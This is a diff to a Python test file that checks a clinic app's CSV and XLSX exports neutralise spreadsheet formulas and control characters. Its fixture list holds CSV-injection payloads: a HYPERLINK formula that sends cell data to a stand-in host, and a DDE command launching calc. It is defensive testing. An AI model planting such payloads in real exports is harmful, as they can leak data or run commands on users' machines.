@@ -12,6 +12,7 @@ from __future__ import annotations
 import csv
 import io
 import logging
+import os
 import unicodedata
 from datetime import date, datetime, time
 
@@ -31,7 +32,7 @@ DAY = date(2026, 3, 2)
 RANGE = ("2026-03-01", "2026-03-08")
 # Text a spreadsheet would run, or read as a number or an error, were it written as it is.
 DANGEROUS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    '=HYPERLINK("http://e.example/?"&A1,"Go")',  # fits a client id (40)
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-2+3",
@@ -45,8 +46,11 @@ DANGEROUS = [
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
 # A name stored before the checks: NUL, an escape sequence, BEL, a right-to-left override, an isolate.
-CONTROL_FIRST, CONTROL_LAST = "Ro\x00sa\x1b[31m\x07", "\u202eZyxq\u2066Vane"
-LOG_MARKERS = ("Zyxq", "Vane", "Rosa", "Ro\x00sa")
+# PostgreSQL cannot hold NUL in text at all (no older database there has one): SOH stands in for it.
+ON_POSTGRES = os.environ.get("IOP_TEST_DATABASE", "").strip().lower() == "postgres"
+NUL = "\x01" if ON_POSTGRES else "\x00"
+CONTROL_FIRST, CONTROL_LAST = f"Ro{NUL}sa\x1b[31m\x07", "\u202eZyxq\u2066Vane"
+LOG_MARKERS = ("Zyxq", "Vane", "Rosa", f"Ro{NUL}sa")
 
 
 def as_printed(text: str) -> str:
@@ -209,7 +213,7 @@ def test_a_stored_name_with_control_characters_exports_on_web_and_cli(app, world
             for text in (cli_csv.stdout, web_export(client, auth, kind, "csv").decode()):
                 rows = assert_csv_is_safe(text, kind)[1:]
                 assert rows and {row[exports.header(kind).index("client_name")] for row in rows} == {shown}
-                assert "\x1b" not in text and "\x00" not in text  # nothing reaches a terminal as a command
+                assert "\x1b" not in text and NUL not in text  # nothing reaches a terminal as a command
             for marker in LOG_MARKERS:
                 assert marker not in result.output and marker not in cli_csv.stderr
     for marker in LOG_MARKERS:
@@ -243,6 +247,7 @@ def test_any_stored_name_comes_out_as_text_in_both_formats(clinic, app, runner, 
     at most one quote, never a formula; the XLSX cell is a string cell holding exactly that name."""
     from iop.files import cells
 
+    first = first.replace("\x00", NUL)
     with app.app_context(), db.transaction() as s:
         s.execute(update(Client).where(Client.client_id == "N00").values(first_name=first, last_name="Lopez"))
     name = as_printed(f"{first} Lopez".strip())
